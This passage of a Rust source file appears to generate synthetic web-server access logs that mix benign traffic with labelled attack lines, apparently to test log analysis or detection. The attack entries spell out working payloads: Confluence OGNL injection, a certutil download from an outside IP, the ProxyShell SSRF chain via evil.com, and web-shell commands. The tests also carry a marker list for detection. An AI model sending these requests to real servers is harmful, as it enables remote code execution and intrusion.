        referer: "-",
        ua: CONFLUENCE_UA,
        technique: CONFLUENCE_2022,
        what: "percent-encoded OGNL path against the wiki, output returned in X-Cmd-Response",
    },
    Attack {
        at: at(2, 9, 15, 30),
        ip: CONFLUENCE_ACTOR,
        method: "GET",
        uri: r#"/wiki/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("ipconfig").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}/"#,
        status: 302,
        bytes: 0,
        referer: "-",
        ua: CONFLUENCE_UA,
        technique: CONFLUENCE_2022,
        what: "unencoded OGNL path (its quotes escaped by Apache)",
    },
    Attack {
        at: at(2, 9, 16, 11),
        ip: CONFLUENCE_ACTOR,
        method: "GET",
        uri: "/wiki/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22nslookup%20x7q2m.oast.example.net%22%29%7D/",
        status: 302,
        bytes: 0,
        referer: "-",
        ua: CONFLUENCE_UA,
        technique: CONFLUENCE_2022,
        what: "blind check: OGNL running nslookup of a callback domain",
    },
    Attack {
        at: at(2, 9, 18, 45),
        ip: CONFLUENCE_ACTOR,
        method: "GET",
        uri: "/wiki/%24%7Bnew%20javax.script.ScriptEngineManager%28%29.getEngineByName%28%22nashorn%22%29.eval%28%22new%20java.lang.ProcessBuilder%28%29.command%28%27cmd.exe%27%2C%27%2Fc%27%2C%27certutil%20-urlcache%20-f%20http%3A%2F%2F203.0.113.9%2Fa.jpg%20a.exe%27%29.start%28%29%22%29%7D/",
        status: 302,
        bytes: 0,
        referer: "-",
        ua: CONFLUENCE_UA,
        technique: CONFLUENCE_2022,
        what: "Nashorn eval starting a certutil download",
    },
    // Exchange ProxyShell: the Autodiscover path confusion reaches any backend as SYSTEM.
    Attack {
        at: at(3, 1, 42, 7),
        ip: EXCHANGE_ACTOR,
        method: "GET",
        uri: "/autodiscover/autodiscover.json?@evil.com/owa/?&Email=autodiscover/autodiscover.json%3F@evil.com",
        status: 302,
        bytes: 0,
        referer: "-",
        ua: PROXYSHELL_UA,
        technique: PROXYSHELL_SSRF,
        what: "SSRF check: a redirect to OWA means vulnerable",
    },
    Attack {
        at: at(3, 1, 42, 9),
        ip: EXCHANGE_ACTOR,
        method: "GET",
        uri: "/autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com",
        status: 200,
        bytes: 1_870,
        referer: "-",
        ua: PROXYSHELL_UA,
        technique: PROXYSHELL_SSRF,
        what: "backend MAPI address book (NSPI) reached through the SSRF",
    },
    Attack {
        at: at(3, 1, 42, 12),
        ip: EXCHANGE_ACTOR,
        method: "POST",
        uri: "/autodiscover/autodiscover.json?@evil.com/autodiscover/autodiscover.xml?&Email=autodiscover/autodiscover.json%3F@evil.com",
        status: 200,
        bytes: 4_062,
        referer: "-",
        ua: PROXYSHELL_UA,
        technique: PROXYSHELL_SSRF,
        what: "backend Autodiscover through the SSRF: the target mailbox's LegacyDN",
    },
    Attack {
        at: at(3, 1, 42, 13),
        ip: EXCHANGE_ACTOR,
        method: "POST",
        uri: "/autodiscover/autodiscover.json?@evil.com/mapi/emsmdb/?&Email=autodiscover/autodiscover.json%3F@evil.com",
        status: 200,
        bytes: 2_118,
        referer: "-",
        ua: PROXYSHELL_UA,
        technique: PROXYSHELL_SSRF,
        what: "backend MAPI emsmdb through the SSRF: the mailbox owner's SID",
    },
    Attack {
        at: at(3, 1, 42, 16),
        ip: EXCHANGE_ACTOR,
        method: "POST",
        uri: "/autodiscover/autodiscover.json?@x/EWS/exchange.asmx?&Email=autodiscover/autodiscover.json%3F@x",
        status: 200,
        bytes: 1_094,
        referer: "-",
        ua: PROXYSHELL_UA,
        technique: PROXYSHELL_SSRF,
        what: "EWS through the SSRF: saves a draft carrying the encoded web shell",
    },
    Attack {
        at: at(3, 1, 42, 20),
        ip: EXCHANGE_ACTOR,
        method: "POST",
        uri: PROXYSHELL_POWERSHELL,
        status: 200,
        bytes: 1_622,
        referer: "-",
        ua: PROXYSHELL_UA,
        technique: PROXYSHELL_EOP,
        what: "remote PowerShell as the administrator with a forged X-Rps-CAT token",
    },
    Attack {
        at: at(3, 1, 42, 21),
        ip: EXCHANGE_ACTOR,
        method: "POST",
        uri: PROXYSHELL_POWERSHELL,
        status: 200,
        bytes: 3_402,
        referer: "-",
        ua: PROXYSHELL_UA,
        technique: PROXYSHELL_EOP,
        what: "New-ManagementRoleAssignment grants Mailbox Import Export",
    },
    Attack {
        at: at(3, 1, 42, 40),
        ip: EXCHANGE_ACTOR,
        method: "POST",
        uri: PROXYSHELL_POWERSHELL,
        status: 200,
        bytes: 3_118,
        referer: "-",
        ua: PROXYSHELL_UA,
        technique: PROXYSHELL_WRITE,
        what: "New-MailboxExportRequest writes the draft as an .aspx under aspnet_client",
    },
    // The ASPX shell ProxyShell dropped: a PST export with the script inside, then commands.
    Attack {
        at: at(3, 1, 44, 2),
        ip: EXCHANGE_ACTOR,
        method: "GET",
        uri: ASPX_SHELL,
        status: 200,
        bytes: 265_216,
        referer: "-",
        ua: ASPX_UA,
        technique: WEB_SHELL,
        what: "ASPX shell answers (the exported PST around it)",
    },
    Attack {
        at: at(3, 1, 44, 30),
        ip: EXCHANGE_ACTOR,
        method: "POST",
        uri: ASPX_SHELL,
        status: 200,
        bytes: 1_472,
        referer: "-",
        ua: ASPX_UA,
        technique: WEB_SHELL,
        what: "command through the ASPX shell",
    },
    Attack {
        at: at(3, 1, 45, 2),
        ip: EXCHANGE_ACTOR,
        method: "POST",
        uri: ASPX_SHELL,
        status: 200,
        bytes: 1_472,
        referer: "-",
        ua: ASPX_UA,
        technique: WEB_SHELL,
        what: "command through the ASPX shell",
    },
    Attack {
        at: at(3, 1, 46, 48),
        ip: EXCHANGE_ACTOR,
        method: "POST",
        uri: ASPX_SHELL,
        status: 200,
        bytes: 318,
        referer: "-",
        ua: ASPX_UA,
        technique: WEB_SHELL,
        what: "command through the ASPX shell",
    },
    Attack {
        at: at(3, 1, 49, 15),
        ip: EXCHANGE_ACTOR,
        method: "POST",
        uri: ASPX_SHELL,
        status: 200,
        bytes: 1_472,
        referer: "-",
        ua: ASPX_UA,
        technique: WEB_SHELL,
        what: "command through the ASPX shell",
    },
    // A JSP shell: upload, commands in the query string, then an encrypted POST channel.
    Attack {
        at: at(4, 2, 11, 40),
        ip: JSP_ACTOR,
        method: "POST",
        uri: "/manager/html/upload?org.apache.catalina.filters.CSRF_NONCE=5E1B1F2C8A4D6E0F9A3B7C2D1E4F6A8B",
        status: 403,
        bytes: 3_022,
        referer: "-",
        ua: JSP_UA,
        technique: WEB_SHELL,
        what: "WAR upload through the Tomcat manager, refused",
    },
    Attack {
        at: at(4, 2, 12, 55),
        ip: JSP_ACTOR,
        method: "POST",
        uri: "/cms/upload.jsp?type=image&dir=/images",
        status: 200,
        bytes: 96,
        referer: "-",
        ua: JSP_UA,
        technique: WEB_SHELL,
        what: "unauthenticated CMS upload writes shell.jsp under /images",
    },
    Attack {
        at: at(4, 2, 13, 1),
        ip: JSP_ACTOR,
        method: "GET",
        uri: JSP_SHELL,
        status: 200,
        bytes: 12,
        referer: "-",
        ua: JSP_UA,
        technique: WEB_SHELL,
        what: "first call of the JSP shell",
    },
    Attack {
        at: at(4, 2, 13, 20),
        ip: JSP_ACTOR,
        method: "GET",
        uri: "/images/shell.jsp?cmd=whoami",
        status: 200,
        bytes: 31,
        referer: "-",
        ua: JSP_UA,
        technique: WEB_SHELL,
        what: "command in the query string: whoami",
    },
    Attack {
        at: at(4, 2, 13, 48),
        ip: JSP_ACTOR,
        method: "GET",
        uri: "/images/shell.jsp?cmd=ipconfig+/all",
        status: 200,
        bytes: 2_214,
        referer: "-",
        ua: JSP_UA,
        technique: WEB_SHELL,
        what: "command in the query string: ipconfig /all",
    },
    Attack {
        at: at(4, 2, 14, 30),
        ip: JSP_ACTOR,
        method: "GET",
        uri: "/images/shell.jsp?cmd=net+user+/domain",
        status: 200,
        bytes: 1_308,
        referer: "-",
        ua: JSP_UA,
        technique: WEB_SHELL,
        what: "command in the query string: net user /domain",
    },
    Attack {
        at: at(4, 2, 15, 12),
        ip: JSP_ACTOR,
        method: "GET",
        uri: "/images/shell.jsp?cmd=tasklist+/v",
        status: 200,
        bytes: 9_876,
        referer: "-",
        ua: JSP_UA,
        technique: WEB_SHELL,
        what: "command in the query string: tasklist /v",
    },
    Attack {
        at: at(4, 2, 21, 5),
        ip: JSP_ACTOR,
        method: "POST",
        uri: JSP_SHELL,
        status: 200,
        bytes: 16,
        referer: "-",
        ua: JSP_UA,
        technique: WEB_SHELL,
        what: "encrypted POST channel of the shell (constant reply size)",
    },
    Attack {
        at: at(4, 2, 21, 9),
        ip: JSP_ACTOR,
        method: "POST",
        uri: JSP_SHELL,
        status: 200,
        bytes: 16,
        referer: "-",
        ua: JSP_UA,
        technique: WEB_SHELL,
        what: "encrypted POST channel of the shell (constant reply size)",
    },
    Attack {
        at: at(4, 2, 22, 40),
        ip: JSP_ACTOR,
        method: "POST",
        uri: JSP_SHELL,
        status: 200,
        bytes: 16,
        referer: "-",
        ua: JSP_UA,
        technique: WEB_SHELL,
        what: "encrypted POST channel of the shell (constant reply size)",
    },
];

#[cfg(test)]
mod tests {
    use std::collections::{HashMap, HashSet};
    use std::net::Ipv4Addr;

    use super::*;

    /// A combined-format line taken apart; quoted fields keep Apache's escapes.
    #[derive(Debug)]
    struct Parsed<'a> {
        ip: Ipv4Addr,
        ts: i64,
        method: &'a str,
        uri: &'a str,
        status: u16,
        referer: &'a str,
        ua: &'a str,
    }

    /// A quoted field at the start of `s`: its text and the rest after the closing quote. Only
    /// `\"` and `\\` may be escaped, and nothing may be a control character, as Apache writes.
    fn quoted(s: &str) -> Option<(&str, &str)> {
        let body = s.strip_prefix('"')?;
        let bytes = body.as_bytes();
        let mut i = 0;
        while i < bytes.len() {
            match bytes[i] {
                b'\\' if matches!(bytes.get(i + 1), Some(b'"' | b'\\')) => i += 2,
                b'\\' => return None,
                b'"' => return Some((&body[..i], &body[i + 1..])),
                b if b.is_ascii_control() => return None,
                _ => i += 1,
            }
        }
        None
    }

    fn days_from_civil(y: i64, m: i64, d: i64) -> i64 {
        let y = if m <= 2 { y - 1 } else { y };
        let era = y.div_euclid(400);
        let yoe = y - era * 400;
        let mp = (m + 9) % 12;
        let doy = (153 * mp + 2) / 5 + d - 1;
        let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
        era * 146_097 + doe - 719_468
    }

    /// `03/Jun/2024:14:05:09 +0000`.
    fn clf_time(t: &str) -> Option<i64> {
        let b = t.as_bytes();
        if t.len() != 26 || b[2] != b'/' || b[6] != b'/' || b[11] != b':' || !t.ends_with(" +0000")
        {
            return None;
        }
        let num = |r: std::ops::Range<usize>| t.get(r)?.parse::<i64>().ok();
        let month = MONTHS.iter().position(|&m| m == &t[3..6])? as i64 + 1;
        let (d, y, h, mi, s) = (num(0..2)?, num(7..11)?, num(12..14)?, num(15..17)?, num(18..20)?);
        if b[14] != b':' || b[17] != b':' || !(1..=31).contains(&d) || h > 23 || mi > 59 || s > 59 {
            return None;
        }
        Some(days_from_civil(y, month, d) * 86_400 + h * 3_600 + mi * 60 + s)
    }

    fn parse(line: &str) -> Option<Parsed<'_>> {
        let (ip, rest) = line.split_once(' ')?;
        let rest = rest.strip_prefix("- ")?;
        let (user, rest) = rest.split_once(' ')?;
        if user.is_empty() {
            return None;
        }
        let (time, rest) = rest.strip_prefix('[')?.split_once("] ")?;
        let (request, rest) = quoted(rest)?;
        let mut parts = request.split(' ');
        let (method, uri, proto) = (parts.next()?, parts.next()?, parts.next()?);
        let method_ok = !method.is_empty() && method.bytes().all(|b| b.is_ascii_uppercase());
        if parts.next().is_some() || !method_ok || !uri.starts_with('/') {
            return None;
        }
        if proto != "HTTP/1.1" && proto != "HTTP/2.0" {
            return None;
        }
        let (status, rest) = rest.strip_prefix(' ')?.split_once(' ')?;
        let (bytes, rest) = rest.split_once(' ')?;
        if bytes != "-" && (bytes.is_empty() || !bytes.bytes().all(|b| b.is_ascii_digit())) {
            return None;
        }
        let (referer, rest) = quoted(rest)?;
        let (ua, rest) = quoted(rest.strip_prefix(' ')?)?;
        let status: u16 = status.parse().ok().filter(|s| (100..600).contains(s))?;
        if !rest.is_empty() || referer.is_empty() || ua.is_empty() {
            return None;
        }
        Some(Parsed { ip: ip.parse().ok()?, ts: clf_time(time)?, method, uri, status, referer, ua })
    }

    /// The line without its time, to compare an attack line before and after re-stamping.
    fn timeless(line: &str) -> String {
        let open = line.find(" [").unwrap();
        let close = line.find("] ").unwrap();
        format!("{}{}", &line[..open], &line[close..])
    }

    const MARKERS: &[&str] =
        &["${", "jndi", "autodiscover.json?@", ".action?", "ognl", "cmd=", "shell.jsp"];

    fn is_attacker(ip: Ipv4Addr) -> bool {
        let o = ip.octets();
        o[..3] == [198, 51, 100] || o[..3] == [203, 0, 113]
    }

    #[test]
    fn deterministic_for_a_seed() {
        let a: Vec<String> = benign_access_log(3_000, 7).collect();
        assert_eq!(a, benign_access_log(3_000, 7).collect::<Vec<_>>());
        assert_ne!(a, benign_access_log(3_000, 8).collect::<Vec<_>>());
        assert_eq!(mixed_access_log(2_000, 7), mixed_access_log(2_000, 7));
        assert_ne!(mixed_access_log(2_000, 7).1, mixed_access_log(2_000, 8).1);
        assert_eq!(attack_lines(), attack_lines());
    }

    #[test]
    fn exact_line_counts() {
        for n in [0, 1, 2, 17, 5_000] {
            let log = benign_access_log(n, 3);
            assert_eq!(log.size_hint(), (n, Some(n)));
            assert_eq!(log.count(), n);
            let (lines, numbers) = mixed_access_log(n, 3);
            assert_eq!(lines.len(), n + attack_lines().len());
            assert_eq!(numbers.len(), attack_lines().len());
        }
    }

    #[test]
    fn benign_lines_parse_in_time_order_over_the_week() {
        let mut last = START;
        let mut ips = HashSet::new();
        let mut statuses = HashSet::new();
        let mut methods = HashSet::new();
        let mut kinds: HashMap<&str, usize> = HashMap::new();
        let lines: Vec<String> = benign_access_log(60_000, 1).collect();
        for line in &lines {
            let p = parse(line).unwrap_or_else(|| panic!("not combined format: {line}"));
            assert!(p.ts >= last, "time goes back: {line}");
            last = p.ts;
            assert!(!is_attacker(p.ip), "attacker range in benign traffic: {line}");
            ips.insert(p.ip);
            statuses.insert(p.status);
            methods.insert(p.method);
            for (kind, needle) in [
                ("wiki", "/wiki/"),
                ("owa", "/owa/"),
                ("api", "/api/"),
                ("mapi", "/mapi/"),
                ("jsp", ".jsp"),
                ("aspx", ".aspx"),
                ("php", ".php?"),
                ("woff2", ".woff2"),
                ("plus", "q="),
                ("pct20", "%20"),
                ("utf8", "%C3%"),
                ("external", "https://www.google."),
                ("googlebot", "Googlebot"),
                ("bingbot", "bingbot"),
                ("curl", "\"curl/"),
                ("monitor", "UptimeRobot"),
            ] {
                if line.contains(needle) {
                    *kinds.entry(kind).or_default() += 1;
                }
            }
        }
        assert!(last - START > 6 * 86_400 && last < START + 7 * 86_400, "spans the week");
        assert!(ips.len() >= 300, "{} client addresses", ips.len());
        for status in [200, 301, 302, 304, 404, 500] {
            assert!(statuses.contains(&status), "no {status}");
        }
        for method in ["GET", "POST", "HEAD"] {
            assert!(methods.contains(method), "no {method}");
        }
        assert_eq!(kinds.len(), 16, "missing kinds of traffic: {kinds:?}");
    }

    #[test]
    fn benign_traffic_has_no_attack_markers() {
        for line in benign_access_log(60_000, 2) {
            let lower = line.to_ascii_lowercase();
            for marker in MARKERS {
                assert!(!lower.contains(marker), "{marker:?} in benign line {line}");
            }
        }
    }

    #[test]
    fn attack_lines_parse_and_come_from_the_documentation_ranges() {
        let attacks = attack_lines();
        assert!((30..=50).contains(&attacks.len()), "{} attack lines", attacks.len());
        let mut last = START;
        for a in &attacks {
            let p = parse(&a.line).unwrap_or_else(|| panic!("not combined format: {}", a.line));
            assert!(is_attacker(p.ip), "{}", a.line);
            assert!(p.ts >= last, "attacks out of order: {}", a.line);
            last = p.ts;
            assert!(!a.what.is_empty());
        }
        let count = |t: &str| attacks.iter().filter(|a| a.technique == t).count();
        assert!(count(LOG4SHELL) >= 10 && count(WEB_SHELL) >= 8);
        // Every Log4Shell line carries its lookup, plain or percent-encoded, in exactly one of
        // the request, the referrer or the user agent.
        for a in attacks.iter().filter(|a| a.technique == LOG4SHELL) {
            let p = parse(&a.line).unwrap();
            let lookup = |f: &&&str| {
                let f = f.to_ascii_lowercase();
                f.contains("${") || f.contains("%7b") || f.contains("%257b")
            };
            assert_eq!([p.uri, p.referer, p.ua].iter().filter(lookup).count(), 1, "{}", a.line);
        }
        // Quotes in a request are escaped as Apache does, and survive parsing.
        assert!(attacks.iter().any(|a| a.line.contains(r#"exec(\"ipconfig\")"#)));
        assert!(attacks.iter().any(|a| a.line.contains(r"aaa\\u0027%2b#{")));
    }

    #[test]
    fn mixed_log_marks_the_attack_lines_and_keeps_time_order() {
        let n = 20_000;
        let (lines, numbers) = mixed_access_log(n, 5);
        let attacks = attack_lines();
        assert!(numbers.windows(2).all(|w| w[0] < w[1]));
        for (a, &number) in attacks.iter().zip(&numbers) {
            assert_eq!(timeless(&lines[number - 1]), timeless(&a.line));
        }
        let mut last = START;
        for line in &lines {
            let p = parse(line).unwrap_or_else(|| panic!("not combined format: {line}"));
            assert!(p.ts >= last, "time goes back: {line}");
            last = p.ts;
        }
        // The rest is exactly the benign log of the same seed.
        let marked: HashSet<usize> = numbers.iter().copied().collect();
        let rest = lines
            .iter()
            .enumerate()
            .filter(|(i, _)| !marked.contains(&(i + 1)))
            .map(|(_, l)| l.clone());
        assert!(rest.eq(benign_access_log(n, 5)));
    }
}
